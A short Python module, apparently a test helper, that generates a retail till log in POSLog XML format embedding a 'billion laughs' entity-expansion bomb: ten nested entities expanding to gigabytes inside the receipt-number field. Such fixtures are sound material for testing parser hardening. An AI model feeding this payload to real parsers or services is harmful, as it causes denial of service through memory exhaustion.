"""A till file of a few hundred bytes that a careless parser expands to gigabytes."""

LEVELS = 9
EACH = 10


def entity_bomb(till: str) -> bytes:
    """Ten entities, each ten times the one before; the receipt number holds the last."""
    entities = ['<!ENTITY e0 "receipt ">']
    entities += (f'<!ENTITY e{level} "{f"&e{level - 1};" * EACH}">' for level in range(1, LEVELS + 1))
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f"<!DOCTYPE POSLog [{''.join(entities)}]>\n"
        '<POSLog xmlns="http://www.nrf-arts.org/IXRetail/namespace/"><Transaction>'
        f"<WorkstationID>{till}</WorkstationID><SequenceNumber>1</SequenceNumber>"
        f"<ReceiptNumber>&e{LEVELS};</ReceiptNumber></Transaction></POSLog>\n"
    ).encode()
